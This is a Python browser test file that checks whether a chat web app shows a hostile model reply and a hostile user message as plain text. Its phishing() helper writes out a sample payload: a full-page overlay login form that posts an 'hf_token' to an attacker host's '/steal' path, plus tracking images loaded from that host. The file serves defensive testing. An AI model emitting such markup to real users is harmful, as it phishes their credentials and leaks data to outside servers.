"""A hostile model reply and a hostile user message, in Chromium (issue #17): the model's reply is
chosen by the TGI double, and a server on another port stands for the attacker's site, recording
every request it gets. Markup in a message shows as text; markdown, code, tables and math still
render; the page runs under its Content-Security-Policy without a violation of its own."""

from __future__ import annotations

import http.server
import threading

import pytest
from playwright.sync_api import expect

from chat.backends.remote.tgi import TGIBackend
from chat.config import Settings
from tests.browser.chat_page import ChatPage
from tests.helpers import free_port, serve_app
from tests.tgi_double import Reply, TGIDouble

pytestmark = pytest.mark.browser

NORMAL_REPLY = "A falcon is a bird of prey."
# Records each policy violation the page reports, from the first script on.
RECORD_VIOLATIONS = """window.cspViolations = [];
document.addEventListener("securitypolicyviolation",
  (e) => window.cspViolations.push(e.violatedDirective + " " + e.blockedURI));"""


def phishing(attacker: str) -> str:
    """A reply that draws a login form over the whole page and loads two images from elsewhere."""
    return (
        "Your session expired.\n\n"
        '<div id="overlay" style="position:fixed;inset:0;z-index:99999;background:white">'
        f'<form action="{attacker}/steal" method="post"><input name="hf_token" placeholder="HF token">'
        '<button type="submit">Log in</button></form></div>\n\n'
        f"![tracking pixel]({attacker}/pixel.png) and <img src='{attacker}/img.png'>"
    )


RICH_REPLY = (
    "| name | amount |\n|---|---|\n| Alice | 120 |\n\n"
    '```html\n<form action="/x"><input name="a"></form>\n```\n\n'
    "$$\\frac{a}{b}$$\n\n**bold** and `<b>code</b>`"
)


class Attacker:
    """The attacker's site: answers everything with 200 and remembers each path asked for."""

    def __init__(self):
        self.paths: list[str] = []
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                outer.paths.append(self.path)
                self.send_response(200)
                self.send_header("content-length", "0")
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", free_port()), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True, name="attacker").start()
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"

    def close(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def attacker():
    site = Attacker()
    yield site
    site.close()


@pytest.fixture(scope="module")
def hostile_url(attacker):
    """The app on a TGI server whose replies the attacker chose, by the message's last word."""
    replies = {"phish": phishing(attacker.url), "rich": RICH_REPLY}
    with TGIDouble() as double:
        double.reply_for = lambda body: Reply(
            text=replies.get(body["inputs"].rsplit("User:", 1)[-1].split()[-2], NORMAL_REPLY)
        )
        backend = TGIBackend([double.url])
        try:
            with serve_app(backend, Settings(backend="tgi", endpoints=(double.url,))) as url:
                yield url
        finally:
            backend.close()


@pytest.fixture
def hostile_chat(page, hostile_url) -> ChatPage:
    page.add_init_script(RECORD_VIOLATIONS)
    return ChatPage(page, hostile_url).open()


def applied_styles(message) -> list[str]:
    """The inline styles inside `message` that took effect (a background or a position)."""
    return message.evaluate(
        """(e) => [...e.querySelectorAll('[style]')]
          .filter(x => getComputedStyle(x).position !== 'static'
                    || getComputedStyle(x).backgroundColor === 'rgb(255, 255, 255)')
          .map(x => x.getAttribute('style'))"""
    )


def page_runs_under_its_policy(page) -> bool:
    """Nothing was blocked but inline style attributes (Gradio's page sets its flex layout in
    some, which chat.web.security.CHAT_CSS restates), and that layout holds."""
    violations = page.evaluate("window.cspViolations")
    assert all(v.startswith("style-src-attr") for v in violations), violations
    return page.evaluate("() => getComputedStyle(document.body).display") == "flex"


def covers_the_page(page) -> bool:
    """Whether something of a message lies over the middle of the message box."""
    return page.evaluate(
        """() => {
          const box = [...document.querySelectorAll('textarea')].find(t => t.offsetParent);
          const r = box.getBoundingClientRect();
          const top = document.elementFromPoint(r.x + r.width / 2, r.y + r.height / 2);
          return !!(top && top.closest('[data-testid=bot], [data-testid=user]'));
        }"""
    )


def test_a_phishing_reply_shows_as_text_and_loads_nothing(hostile_chat, attacker):
    chat, page = hostile_chat, hostile_chat.page
    chat.ask("Please log me in phish")
    bot = chat.bot_messages.last
    expect(bot).to_contain_text("Your session expired.")
    expect(bot).to_contain_text('<form action="')  # shown as the text it is
    for tag in ["form", "input", "img"]:
        assert bot.locator(tag).count() == 0, tag
    assert bot.evaluate("(e) => [...e.querySelectorAll('button')].filter((b) => b.form).length") == 0
    assert applied_styles(bot) == []
    assert not covers_the_page(page)
    assert not [path for path in attacker.paths if "pixel" in path or "img" in path]
    assert page_runs_under_its_policy(page)
    assert chat.ask("And now a normal question") == NORMAL_REPLY


def test_a_users_own_markup_shows_as_text(hostile_chat, attacker):
    chat, page = hostile_chat, hostile_chat.page
    chat.ask(phishing(attacker.url).replace("\n\n", " ") + " hello")
    user = chat.user_messages.last
    expect(user).to_contain_text("Your session expired.")
    for tag in ["form", "input", "img"]:
        assert user.locator(tag).count() == 0, tag
    assert applied_styles(user) == []
    assert not covers_the_page(page)
    assert not attacker.paths


def test_markdown_code_tables_and_math_still_render(hostile_chat):
    chat = hostile_chat
    chat.ask("Show me everything rich")
    bot = chat.bot_messages.last
    expect(bot.locator("table td").first).to_have_text("Alice")
    expect(bot.locator("pre code")).to_contain_text('<form action="/x">')
    expect(bot.locator("button.copy_code_button")).to_have_count(1)  # Gradio's own, still a button
    expect(bot).not_to_contain_text("<button")
    expect(bot).not_to_contain_text("<svg")
    expect(bot.locator(".katex").first).to_be_visible()
    expect(bot.locator("strong")).to_have_text("bold")
    expect(bot.locator("code").last).to_have_text("<b>code</b>")
    assert page_runs_under_its_policy(chat.page)
